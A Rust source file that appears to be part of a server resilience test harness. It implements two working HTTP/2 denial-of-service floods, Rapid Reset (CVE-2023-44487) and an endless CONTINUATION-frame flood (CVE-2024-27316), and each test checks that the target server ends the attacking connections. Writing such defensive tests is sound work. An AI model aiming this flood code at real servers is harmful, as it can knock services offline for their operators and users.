//! HTTP/2 streams that are not meant: reset as soon as they are opened, or never opened whole.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use serde_json::json;

use crate::failure::Failure;
use crate::frames::{CONTINUATION, END_HEADERS, END_STREAM, Fields, HEADERS, RST_STREAM, Raw, SETTINGS, frame};
use crate::process::Who;
use crate::siege::{Attack, Ground, Outcome, fill};

const CLIENTS: u64 = 8;

pub(crate) struct RapidReset;

impl Attack for RapidReset {
    const NAME: &'static str = "rapid-reset";
    const TEXT: &'static str = "8 HTTP/2 connections that open a stream for a list of 2,000 objects and reset it, as fast as \
                                they can (CVE-2023-44487)";

    async fn prepare(&self, ground: &Ground) -> Result<(), Failure> {
        fill(
            ground,
            "/api/v1/namespaces/default/configmaps",
            ground.size(2_000, 500),
            |number| {
                json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": format!("m-{number:05}")},
                   "data": {"text": "x".repeat(400)}})
                .to_string()
            },
        )
        .await
    }

    async fn run(&self, ground: &Ground) -> Result<Outcome, Failure> {
        let (opened, ended) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
        let mut clients = tokio::task::JoinSet::new();
        for _ in 0..CLIENTS {
            let (address, opened, ended) = (ground.process.http, opened.clone(), ended.clone());
            clients.spawn(async move {
                while let Ok(raw) = Raw::open(address, &frame(SETTINGS, 0, 0, &[])).await {
                    let (mut read, mut write) = raw.socket.into_split();
                    let drain = tokio::spawn(async move {
                        let _ = tokio::io::copy(&mut read, &mut tokio::io::sink()).await;
                    });
                    let fields = Fields::get("/api/v1/namespaces/default/configmaps", Who::Attacker).0;
                    for burst in 0.. {
                        let mut bytes = Vec::new();
                        for number in 0..100 {
                            let stream = 2 * (burst * 100 + number) + 1;
                            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields));
                            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                        }
                        if tokio::io::AsyncWriteExt::write_all(&mut write, &bytes).await.is_err() {
                            break;
                        }
                        opened.fetch_add(100, Ordering::Relaxed);
                    }
                    drain.abort();
                    ended.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
        ground.hold(20).await;
        clients.abort_all();
        let (opened, ended) = (opened.load(Ordering::Relaxed), ended.load(Ordering::Relaxed));
        Ok(Outcome::new(CLIENTS, "connections", 64 << 20)
            .note(format!(
                "{opened} streams were sent; the server ended {ended} connections for it"
            ))
            .expect(ended > 0, "no connection was ended"))
    }
}

pub(crate) struct Continuations;

impl Attack for Continuations {
    const NAME: &'static str = "continuations";
    const TEXT: &'static str = "8 HTTP/2 connections that send a head without an end: CONTINUATION frames of 16 KiB, or empty \
                                ones, for ever (CVE-2024-27316)";

    async fn run(&self, ground: &Ground) -> Result<Outcome, Failure> {
        let (sent, ended) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
        let mut clients = tokio::task::JoinSet::new();
        for client in 0..CLIENTS {
            let (address, sent, ended) = (ground.process.http, sent.clone(), ended.clone());
            clients.spawn(async move {
                let mut filler = Fields::default();
                if client % 2 == 0 {
                    filler.field("x-filler", &"y".repeat(16_000));
                }
                while let Ok(mut raw) = Raw::open(address, &frame(SETTINGS, 0, 0, &[])).await {
                    let fields = Fields::get("/version", Who::Attacker).0;
                    raw.send(&frame(HEADERS, END_STREAM, 1, &fields)).await;
                    while raw.send(&frame(CONTINUATION, 0, 1, &filler.0)).await {
                        sent.fetch_add(1, Ordering::Relaxed);
                    }
                    ended.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
        ground.hold(20).await;
        clients.abort_all();
        let (sent, ended) = (sent.load(Ordering::Relaxed), ended.load(Ordering::Relaxed));
        Ok(Outcome::new(CLIENTS, "connections", 32 << 20)
            .note(format!(
                "{sent} frames were sent; the server ended {ended} connections for it"
            ))
            .expect(ended > 0, "no connection was ended"))
    }
}
